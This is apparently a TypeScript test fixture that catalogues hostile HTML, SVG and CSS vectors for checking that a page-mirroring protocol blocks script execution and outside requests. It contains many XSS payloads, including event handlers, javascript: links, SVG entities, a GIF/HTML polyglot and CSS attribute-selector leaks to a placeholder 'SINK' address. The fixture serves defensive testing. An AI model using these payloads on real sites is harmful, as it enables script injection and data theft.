import { writeAnimation, writeAnimationState } from '../../src/protocol/animation.ts';
import type { PageWriter } from '../../src/protocol/page-writer.ts';

/**
 * Things that a page, or somebody who speaks for it, could send to the agent's window. `SINK` is an address that nobody has
 * allowed; `RUN` is code that tells on itself. Each is sent as it stands: a real tag would leave many of them out.
 */
export interface HostileVector {
  readonly name: string;
  readonly html: string;
  /** What the consumer's side hands out for whatever the viewer asks for. */
  readonly resource?: string;
  /** Sent after the page, as a change. */
  readonly change?: (writer: PageWriter, id: (name: string) => number, sink: string) => void;
}

const RUN = "top.ran.push('RUN')";
const html = (name: string, text: string): HostileVector => ({ name, html: text.replaceAll('RUN()', RUN) });
const change = (name: string, text: string, write: NonNullable<HostileVector['change']>): HostileVector => ({
  name,
  html: text,
  change: write,
});

/** A page that shows one thing, which only the consumer's side has, in every place that shows anything. */
export const SHOWN = 'blob:https://shop.example/5e6f0a3c-1d2b-4c3d-8e9f-0a1b2c3d4e5f';
const EVERYWHERE = `<style>@import "${SHOWN}"; @font-face { font-family: F; src: url("${SHOWN}#f") } p { font-family: F } #a { background: url("${SHOWN}#f"); cursor: url(${SHOWN}), auto }
#b { mask: url("${SHOWN}"); filter: url("${SHOWN}#f") } #c { clip-path: url("${SHOWN}#c"); border-image: url(${SHOWN}) 1 } #d::before { content: url("${SHOWN}") } li { list-style: url(${SHOWN}) }</style>
<p>p</p><i id=a>a</i><i id=b>b</i><i id=c>c</i><i id=d>d</i><li>l</li><img src="${SHOWN}"><img srcset="${SHOWN}#f 2x"><input type=image src="${SHOWN}"><video poster="${SHOWN}" src="${SHOWN}"></video>
<embed src="${SHOWN}"><object data="${SHOWN}"></object><iframe src="${SHOWN}"></iframe><link rel=stylesheet href="${SHOWN}"><a id=click href="${SHOWN}">a</a><script src="${SHOWN}"></script>
<svg><image href="${SHOWN}"/><use href="${SHOWN}#f"/><filter id=g><feImage href="${SHOWN}#f"/></filter><rect fill="url(${SHOWN}#f)" mask="url(${SHOWN}#f)" filter="url(#g)" width=9 height=9 /></svg>
<b style='background: url("${SHOWN}"); filter: url("${SHOWN}#f")'>b</b>`;
const resource = (name: string, content: string): HostileVector => ({ name, html: EVERYWHERE, resource: content.replaceAll('RUN()', RUN) });

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="RUN()"><script>RUN()</script><script href="SINK/s.js"/>
<style>@import "SINK/i.css"; @font-face { font-family: G; src: url(SINK/g.woff2) } rect { fill: url(SINK/p.svg#a); font-family: G }</style><rect id="f" width="9" height="9"/><image href="SINK/1.png" width="9" height="9"/>
<image xlink:href="SINK/2.png" width="9" height="9"/><use href="SINK/u.svg#a"/><filter id="f"><feImage href="SINK/3.png"/></filter><clipPath id="c"><use href="SINK/4.svg#a"/></clipPath>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="SINK/frame"/><img xmlns="http://www.w3.org/1999/xhtml" src="SINK/5.png" onerror="RUN()"/><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN()"/></foreignObject>
<a href="javascript:RUN()"><text>t</text></a><animate attributeName="href" values="SINK/6;SINK/7" dur="1s" onbegin="RUN()"/></svg>`;

export const HOSTILE: readonly HostileVector[] = [
  resource('resource: an SVG with scripts and references', SVG),
  resource('resource: an SVG behind a style sheet', `<?xml version="1.0"?><?xml-stylesheet href="SINK/x.css"?>${SVG}`),
  resource(
    'resource: an SVG with entities',
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "SINK/e"><!ENTITY % b SYSTEM "SINK/p"> %b;]>${SVG.replace('<rect', '&a;<rect')}`,
  ),
  resource('resource: a page', `<!doctype html><script>RUN()</script><img src="SINK/1.png" onerror="RUN()">`),
  resource(
    'resource: a page that begins like an image',
    `GIF89a/*<html><script>*/=0;RUN();</script><img src="SINK/1.png" onerror="RUN()">`,
  ),
  resource('resource: a style sheet', '@import "SINK/1.css"; * { background: url(SINK/2.png) }'),
  html('script', '<script>RUN()</script>'),
  html('script src', '<script src="SINK/a.js"></script>'),
  html('module script', '<script type=module src="SINK/a.js"></script><link rel=modulepreload href="SINK/m.js">'),
  html('script of SVG', '<svg><script>RUN()</script><script href="SINK/s.js"/></svg>'),
  html('onerror', '<img src="data:image/png;base64,x" onerror="RUN()"><svg onload="RUN()"></svg><body onload="RUN()">'),
  html(
    'onerror in mixed case',
    '<x oNeRrOr="RUN()"></x><video OnError="RUN()" src="data:video/mp4,x"></video><details open ontoggle="RUN()">',
  ),
  html(
    'event attribute of an animation',
    '<svg><animate onbegin="RUN()" attributeName=x dur=1s /></svg><style>@keyframes k{}</style><p onanimationstart="RUN()" style="animation:k 1s">',
  ),
  html('javascript: link', '<a id=click href="javascript:RUN()">a</a><area id=click2 href=" java\nscript:RUN()">'),
  html(
    'vbscript: and data: links',
    '<a id=click href="vbscript:RUN()">a</a><a id=click2 href="data:text/html,<script>RUN()</script>">b</a>',
  ),
  html('javascript: in a frame', '<iframe src="javascript:RUN()"></iframe>'),
  html('frame', '<iframe src="SINK/frame"></iframe><iframe data-x src="//SINKHOST/frame"></iframe>'),
  html('srcdoc', '<iframe srcdoc="<script>RUN()</script><img src=SINK/i.png>"></iframe>'),
  html(
    'sandbox and allow of a frame',
    '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" allow="*" srcdoc="<script>RUN()</script>"></iframe>',
  ),
  html('object', '<object data="SINK/o.swf" type="text/html"><param name=movie value="SINK/p"></object>'),
  html('embed', '<embed src="SINK/e" type="text/html">'),
  html('applet', '<applet code="A.class" codebase="SINK/" archive="SINK/a.jar"></applet>'),
  html(
    'portal, fencedframe, webview',
    '<portal src="SINK/p"></portal><fencedframe src="SINK/f"></fencedframe><webview src="SINK/w"></webview>',
  ),
  html('meta refresh', '<meta http-equiv=refresh content="0;url=SINK/r">'),
  html(
    'meta of policies',
    '<meta http-equiv="Content-Security-Policy" content="img-src *"><meta name=referrer content=unsafe-url><img src="SINK/i.png">',
  ),
  html('base', '<base href="SINK/"><img src="relative.png"><a id=click href="#x">x</a>'),
  html('base with a target', '<base target=_top><form id=submit action="SINK/f"></form>'),
  html('prefetch', '<link rel=prefetch href="SINK/p"><link rel=prerender href="SINK/q"><link rel="next prefetch" href="SINK/n">'),
  html('preconnect', '<link rel=preconnect href="SINK/">'),
  html('dns-prefetch', '<link rel=dns-prefetch href="SINK/"><meta http-equiv=x-dns-prefetch-control content=on>'),
  html('preload', '<link rel=preload as=image href="SINK/l.png"><link rel=preload as=font crossorigin href="SINK/f.woff2">'),
  html('speculation rules', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["SINK/s"]}]}</script>'),
  html(
    'icon, manifest',
    '<link rel=icon href="SINK/i.ico"><link rel=manifest href="SINK/m.json"><link rel=apple-touch-icon href="SINK/t.png">',
  ),
  html(
    'style sheet of a foreign origin',
    '<link rel=stylesheet href="SINK/s.css"><link rel="stylesheet preload" as=style href="SINK/t.css">',
  ),
  html(
    'image',
    '<img src="SINK/i.png" srcset="SINK/2.png 2x"><picture><source srcset="SINK/p.png"><img></picture><input type=image src="SINK/in.png">',
  ),
  html(
    'image of old',
    '<body background="SINK/b.png"><table background="SINK/t.png"><td background="SINK/td.png">x</table><img lowsrc="SINK/l.png" dynsrc="SINK/d.avi" longdesc="SINK/ld">',
  ),
  html(
    'video and audio',
    '<video src="SINK/v.mp4" poster="SINK/p.png" autoplay preload=auto></video><audio src="SINK/a.mp3" autoplay></audio><video><source src="SINK/s.webm"><track default src="SINK/t.vtt"></video>',
  ),
  html(
    'CSS url()',
    '<style>p{background:url(SINK/1)}q{content:url("SINK/2")}body{cursor:url(SINK/3),auto;list-style:url(\'SINK/4\')}</style><p>p<q>q</q></p>',
  ),
  html(
    'CSS url() with escapes',
    '<style>p{background:u\\72l("SINK/1")}p::before{content:\'x\';background:\\75\\72\\6C(SINK/2)}</style><p>p',
  ),
  html('CSS of attributes (reading a value out)', '<style>input[value^=s]{background:url(SINK/leak-s)}</style><input value=secret>'),
  html(
    'CSS @import',
    '<style>@import "SINK/1.css";</style><style>@import url(SINK/2.css) screen;</style><style>@\\69mport "SINK/3.css";</style>',
  ),
  html('CSS @font-face', '<style>@font-face{font-family:F;src:url(SINK/f.woff2)}p{font-family:F}</style><p>text'),
  html('CSS image-set', '<style>p{background:image-set("SINK/1" 1x);background:-webkit-image-set(url(SINK/2) 1x)}</style><p>p'),
  html('style attribute', '<p style="background:url(SINK/1);border-image:url(SINK/2) 1">p'),
  html(
    'SVG image and feImage',
    '<svg><image href="SINK/1"/><image xlink:href="SINK/2"/><filter id=f><feImage href="SINK/3"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  ),
  html(
    'SVG use',
    '<svg><use href="SINK/u.svg#a"/><use xlink:href="SINK/v.svg#b"/><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN()</script></svg>#x"/></svg>',
  ),
  html(
    'SVG set and animate to an address',
    '<svg><a id=click><set attributeName=href to="javascript:RUN()"/><text>x</text></a><image width=9 height=9><animate attributeName=href values="SINK/1;SINK/2" dur=1s /><set attributeName="xlink:href" to="SINK/3"/></image></svg>',
  ),
  html(
    'SVG presentation attributes',
    '<svg><rect fill="url(SINK/1#a)" filter="url(SINK/2#a)" mask="url(SINK/3#a)" clip-path="url(SINK/4#a)" marker-start="url(SINK/5#a)" width=9 height=9 /></svg>',
  ),
  html(
    'foreignObject',
    '<svg><foreignObject width=90 height=90><iframe xmlns="http://www.w3.org/1999/xhtml" src="SINK/f"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN()"><img src="SINK/i.png" onerror="RUN()"></body></foreignObject></svg>',
  ),
  html(
    'MathML links',
    '<math href="javascript:RUN()"><mi id=click href="javascript:RUN()">x</mi><maction actiontype="statusline#SINK" xlink:href="SINK/m"><mi>y</mi></maction></math>',
  ),
  html('form', '<form id=submit action="SINK/f" method=post><input name=a value=b><button formaction="SINK/g" id=click>go</button></form>'),
  html('form of javascript', '<form id=submit action="javascript:RUN()"><input type=submit formaction="javascript:RUN()" id=click></form>'),
  html('ping', '<a id=click href="#x" ping="SINK/ping">x</a>'),
  html(
    'attributionsrc',
    '<a id=click href="#x" attributionsrc="SINK/a">x</a><img attributionsrc="SINK/b" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">',
  ),
  html('target and download', '<a id=click target=_blank href="SINK/w">x</a><a id=click2 target=_top href="javascript:RUN()">y</a>'),
  html(
    'declared shadow root',
    '<div><template shadowrootmode=open><script>RUN()</script><img src="SINK/i.png" onerror="RUN()"><style>:host{background:url(SINK/h)}</style></template></div>',
  ),
  html('template', '<template><img src="SINK/t.png" onerror="RUN()"></template><noscript><img src="SINK/n.png"></noscript>'),
  html('custom element with is', '<button is="x-y" id=click onclick="RUN()">b</button><x-y src="SINK/x" onload="RUN()"></x-y>'),
  html(
    'bgsound, keygen, isindex, marquee',
    '<bgsound src="SINK/b.wav"><keygen><isindex action="SINK/i"><marquee onstart="RUN()">m</marquee>',
  ),
  html('autofocus', '<input autofocus onfocus="RUN()" onblur="RUN()"><select autofocus onfocus="RUN()">'),
  html(
    'popover and command',
    '<button popovertarget=p command=show-popover commandfor=p id=click>b</button><div id=p popover onbeforetoggle="RUN()">p</div>',
  ),
  change(
    'attributes that come later',
    '<div id=a></div><iframe id=f></iframe><img id=i><link id=l><script id=s></script>',
    (w, id, sink) => {
      w.attribute(id('a'), 'onclick', RUN);
      w.attribute(id('f'), 'src', `${sink}/f`);
      w.attribute(id('f'), 'srcdoc', `<script>${RUN}</script>`);
      w.attribute(id('f'), 'sandbox', 'allow-scripts');
      w.attribute(id('i'), 'onerror', RUN);
      w.attribute(id('i'), 'src', `${sink}/i.png`);
      w.attribute(id('l'), 'rel', 'preconnect');
      w.attribute(id('l'), 'href', `${sink}/`);
      w.attribute(id('s'), 'type', 'text/javascript');
      w.attribute(id('s'), 'src', `${sink}/s.js`);
    },
  ),
  change('code that comes later', '<script id=s>0</script><div id=d></div>', (w, id) => {
    w.nodes(id('s'), 0);
    w.text(9_000, RUN);
    w.close();
    w.nodes(id('d'), 0);
    w.openElement(9_001, 0, 'script', ['type'], ['module'], 1);
    w.text(9_002, RUN);
    w.close();
    w.close();
    w.setText(9_002, `${RUN};`);
    w.move(9_002, id('d'), 0);
    w.move(9_002, id('s'), 0);
  }),
  change('a link that turns into something else', '<link id=l rel=stylesheet href="/ok.css">', (w, id, sink) => {
    w.attribute(id('l'), 'rel', 'stylesheet prefetch');
    w.attribute(id('l'), 'href', `${sink}/x`);
    w.attribute(id('l'), 'rel', 'prefetch');
  }),
  change('style sheets that come later', '<style id=s></style><p>p', (w, id, sink) => {
    w.sheet(id('s'), `${sink}/`, 'p{background:url(1)} @import "2.css";');
    w.sheetInsert(id('s'), 0, `p{border-image:url(${sink}/3) 1}`);
    w.adoptedSheet(9_000, `${sink}/`, 'p{list-style:url(4)}');
    w.adopt(1, [9_000]);
  }),
  change('a frame’s document', '<iframe id=f></iframe>', (w, id, sink) => {
    const info = { url: `${sink}/`, baseUrl: `${sink}/`, mode: 1, width: 100, height: 100 } as const;
    w.nodes(id('f'), 0);
    w.openDocument(9_000, info);
    w.openElement(9_001, 0, 'html', [], [], 0);
    w.openElement(9_002, 0, 'script', ['src'], [`${sink}/s.js`], 1);
    w.text(9_003, RUN);
    w.close();
    w.openElement(9_004, 0, 'img', ['src', 'onerror'], ['i.png', RUN], 2);
    w.close();
    w.openElement(9_005, 0, 'iframe', ['src'], [`${sink}/inner`], 1);
    w.close();
    for (let i = 0; i < 3; i++) w.close();
  }),
  change('a page’s address', '<p>p', (w, _id, sink) => w.url(`javascript:${RUN};//${sink}`)),
  change('names of elements and attributes that break out of markup', '<p id=p>p', (w, id, sink) => {
    w.nodes(id('p'), 0);
    w.openElement(9_000, 0, `img src="${sink}/1" onerror="${RUN}"`, [`x onload="${RUN}"`], ['">'], 1);
    w.close();
    w.openElement(9_001, 1, 'script', ['xlink:href', 'href'], [`${sink}/2`, `${sink}/3`], 2);
    w.text(9_002, RUN);
    w.close();
    w.close();
    w.attribute(id('p'), `"><img src=${sink}/4>`, 'x');
  }),
  change('animations', '<style>@keyframes k{to{opacity:0}}#p{animation:k 9s}</style><p id=p>p', (w, id, sink) => {
    const addresses = ['background-image', 'border-image-source', 'list-style-image', 'cursor', 'content', 'mask-image', 'filter', '--own'];
    const values = ['url(SINK/1)', '\\75rl(SINK/2)', 'image-set("SINK/3" 1x)', `url("javascript:${RUN}")`, 'url(SINK/4);@import "SINK/5"'];
    const properties = values.flatMap((value) => addresses.map((name) => [name, value.replaceAll('SINK', sink)] as const));
    for (const [number, pseudo] of [...['', '::before', '::after', '::backdrop'].entries()]) {
      const keyframes = [0, 1].map((offset) => ({ offset, easing: `url(${sink}/6)`, composite: 0, properties }));
      const timing = { delay: 0, endDelay: 0, duration: 9_000, iterations: Infinity, iterationStart: 0, easing: `url(${sink}/7)` };
      writeAnimation(w, number + 1, {
        ...{ target: id('p'), pseudo, kind: 0, name: '' },
        movement: { ...timing, direction: 0, fill: 3, composite: 0, keyframes },
      });
      writeAnimationState(w, number + 1, 1, 10, 1);
    }
  }),
];
